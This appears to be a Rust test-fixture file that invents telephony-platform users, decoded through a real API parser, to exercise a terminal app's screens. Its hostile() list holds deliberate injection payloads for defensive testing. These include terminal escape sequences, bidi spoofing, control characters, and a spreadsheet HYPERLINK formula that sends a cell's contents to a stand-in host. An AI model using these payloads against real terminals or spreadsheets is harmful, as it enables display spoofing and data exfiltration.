//! Invented people as the vendor's answers print them, decoded by the real dialect, so that a screen
//! under test shows what a tenant could really send.

#![allow(dead_code)]

use std::sync::Arc;

use rosterm::api::dialect::Answer;
use rosterm::api::smartflo::Smartflo;
use rosterm::domain::{Row, User};
use serde_json::{Value, json};

/// One invented user: what the list says and what the single read says.
#[derive(Debug, Clone)]
pub(crate) struct Person {
    pub(crate) id: u64,
    pub(crate) name: String,
    pub(crate) login: Option<String>,
    pub(crate) role: (u64, String),
    /// The number of `agent_status`; `None` = no agent.
    pub(crate) status: Option<i64>,
    pub(crate) is_active: bool,
    pub(crate) is_locked: bool,
    pub(crate) has_extension: bool,
    pub(crate) is_international: bool,
    pub(crate) is_login_based: bool,
    /// Whether the single read says if the agent is blocked.
    pub(crate) has_member_status: bool,
    /// When set, stands in every text of the user instead of what is invented.
    pub(crate) everywhere: Option<String>,
}

impl Person {
    /// Somebody in good order.
    pub(crate) fn new(id: u64, name: &str) -> Self {
        let login = name.split(' ').next().unwrap_or_default().to_lowercase();
        Self {
            id,
            name: name.to_owned(),
            login: Some(format!("{login}.{}", id % 1000)),
            role: (54601, "Agent".to_owned()),
            status: Some(0),
            is_active: true,
            is_locked: false,
            has_extension: true,
            is_international: false,
            is_login_based: false,
            has_member_status: true,
            everywhere: None,
        }
    }

    /// The list's item, decoded.
    pub(crate) fn row(&self) -> Row {
        let body = json!({ "has_more": false, "data": [self.item()] });
        let page = Smartflo::default().read_page(&answer(&body));
        let mut rows = page.expect("an invented page reads").rows;
        rows.pop().expect("an invented row reads")
    }

    /// The single read, decoded.
    pub(crate) fn user(&self) -> Arc<User> {
        let user = Smartflo::default().read_user(&answer(&self.document()));
        Arc::new(user.expect("an invented user reads"))
    }

    fn text(&self, invented: &str) -> String {
        self.everywhere.clone().unwrap_or(invented.to_owned())
    }

    fn number(&self) -> String {
        self.text(&format!("+91 99999 {:05}", self.id % 100_000))
    }

    fn extension(&self) -> Option<String> {
        self.has_extension
            .then(|| self.text(&format!("0602842{}", self.id)))
    }

    fn item(&self) -> Value {
        let agent = self.status.map(|status| {
            json!({
                "id": self.text(&format!("0502842{}", self.id)),
                "name": self.name,
                "status": status,
                "follow_me_number": self.number(),
            })
        });
        json!({
            "id": self.id,
            "name": self.name,
            "agent": agent,
            "login_id": self.login,
            "is_login_based_calling_enabled": self.is_login_based,
            "is_international_outbound_enabled": self.is_international,
            "user_role": { "id": self.role.0, "name": self.role.1 },
            "extension": self.extension(),
            "user_status": i64::from(self.is_active),
        })
    }

    fn document(&self) -> Value {
        let login = self.login.clone().unwrap_or_default();
        let agent = self.status.map(|status| {
            json!({
                "id": self.text(&format!("0502842{}", self.id)),
                "name": self.name,
                "intercom": self.text("1002"),
                "number": self.number(),
                "agent_status": status,
                "extension": self.extension().map(|username| json!({
                    "username": username,
                    "outbound_block": false,
                })),
                "sticky_Agent": self.everywhere,
                "time_group": { "id": self.text("23743"), "name": self.text("Office hours") },
                "failover_destination": {
                    "id": self.text("50757"),
                    "name": self.text("Night desk"),
                    "type": self.text("auto_attendant"),
                },
                "is_international_outbound_enabled": self.is_international,
            })
        });
        json!({ "success": true, "data": {
            "id": self.id.to_string(),
            "name": self.name,
            "number": self.number(),
            "sip_password": "not for any screen",
            "team_member": {
                "designation": self.everywhere,
                "email": self.text(&format!("{login}@example.in")),
                "login_id": self.login,
                "status": self.has_member_status.then_some(i64::from(self.is_active)),
                "role": { "id": self.role.0.to_string(), "name": self.role.1 },
                "is_login_based_calling": self.is_login_based,
                "is_web_login_block": self.is_locked,
                "users_for_cdr": { "type": self.text("all"), "value": null },
            },
            "agent": agent,
        }})
    }
}

fn answer(body: &Value) -> Answer {
    Answer {
        status: 200,
        body: body.to_string().into_bytes(),
        ..Answer::default()
    }
}

/// A first page in which every state stands.
pub(crate) fn cast() -> Vec<Person> {
    let role = |id, name: &str| (id, name.to_owned());
    let well = Person::new;
    let locked = |id, name| Person {
        is_locked: true,
        ..well(id, name)
    };
    let with_status = |id, name, status| Person {
        status,
        ..well(id, name)
    };
    vec![
        well(314612, "Aarti Deshmukh"),
        with_status(314655, "Abdul Rahim Shaikh", Some(3)),
        locked(314660, "Anjali R. Pillai"),
        Person {
            role: role(54630, "Quality"),
            is_login_based: true,
            has_member_status: false,
            ..with_status(314671, "Bharat Singh Negi", Some(4))
        },
        Person {
            role: role(54630, "Quality"),
            has_extension: false,
            ..well(314678, "Ravi Kumar Verma")
        },
        locked(314690, "Divya Krishnamurthy"),
        Person {
            login: None,
            ..well(314702, "Farhan Q.")
        },
        Person {
            role: role(54611, "Supervisor"),
            is_international: true,
            ..well(314733, "Gurpreet Kaur")
        },
        Person {
            is_active: false,
            ..with_status(314760, "Harish B", Some(1))
        },
        Person {
            has_extension: false,
            ..with_status(314761, "Harish B", None)
        },
        locked(314790, "Irfan Ali"),
        with_status(314802, "Jaya Lakshmi S", Some(2)),
        well(314811, "Kiran Joshi"),
        Person {
            role: role(54742, "Admin New"),
            is_locked: true,
            ..well(314812, "Lata Menon")
        },
        Person {
            is_locked: true,
            ..with_status(314830, "M. Senthil Kumaran", Some(4))
        },
        well(314844, "Naveen"),
        Person {
            role: role(54799, ""),
            has_extension: false,
            login: Some("user314851".to_owned()),
            ..with_status(314851, "", None)
        },
        well(314860, "Om Prakash"),
        well(314866, "Pooja S"),
        with_status(314873, "Qamar Sultana", Some(9)),
        Person {
            role: role(54600, "Owner"),
            has_extension: false,
            login: Some("demo.admin".to_owned()),
            ..with_status(314884, "Demo Admin", None)
        },
    ]
}

/// People whose names are written in scripts of India and its neighbours.
pub(crate) fn scripts() -> Vec<Person> {
    let names = [
        "सुनीता कुलकर्णी",
        "श्रीकांत द्विवेदी",
        "ரவி சுப்பிரமணியன்",
        "ஸ்ரீதேவி",
        "محمد اقبال",
        "فاطمہ بیگم",
        "ശ്രീജിത്ത് നായർ",
        "ప్రసాద్ రెడ్డి",
        "ಶ್ರೀನಿವಾಸ",
        "অনন্যা চট্টোপাধ্যায়",
        "ਗੁਰਪ੍ਰੀਤ ਕੌਰ",
        "Zoë Müller-Łukasz",
        "王小明",
        "Asha 👩‍👩‍👧‍👦 Rao",
    ];
    let ids = 400_001..;
    let person = |(id, name)| Person {
        login: Some(format!("user{id}")),
        ..Person::new(id, name)
    };
    ids.zip(names).map(person).collect()
}

/// Names that attack whoever prints or measures them.
pub(crate) fn hostile() -> Vec<Person> {
    let names = [
        "\u{1b}[2J\u{1b}[31mRed\u{1b}[0m\u{1b}]0;owned\u{7} Nair".to_owned(),
        "Asha\u{9b}31m C1\u{90}q\u{9c}".to_owned(),
        "Ravi \u{202e}amreV ramuK\u{202c} end".to_owned(),
        "\u{2066}left\u{2067}right\u{200f}unclosed".to_owned(),
        format!("Z{}algo", "\u{301}\u{316}\u{489}".repeat(1_000)),
        "Pri\u{200b}ya\u{200d} \u{feff}Na\u{2060}ir\u{ad}".to_owned(),
        "Line one\r\nLine two\u{2028}\u{85}end".to_owned(),
        "=HYPERLINK(\"http://example.in/?\"&A1)".to_owned(),
        format!("Long{}", " of name".repeat(2_000)),
        "NUL\0 BEL\u{7} BS\u{8} DEL\u{7f}".to_owned(),
        "\u{301}\u{301}starts with marks".to_owned(),
        "꧁𒐫﷽꧂ wide".to_owned(),
        "  \u{a0}\u{3000}  ".to_owned(),
        "\u{1160}\u{3164}\u{e0001}\u{fff9}x\u{fffb}".to_owned(),
        "> = 314678  Ravi Kumar".to_owned(),
    ];
    let ids = 500_001..;
    let person = |(id, name): (u64, String)| Person {
        login: Some(name.clone()),
        role: (54601, format!("\u{1b}[7mAgent\u{202e}")),
        everywhere: Some(name.clone()),
        name,
        ..Person::new(id, "")
    };
    ids.zip(names).map(person).collect()
}
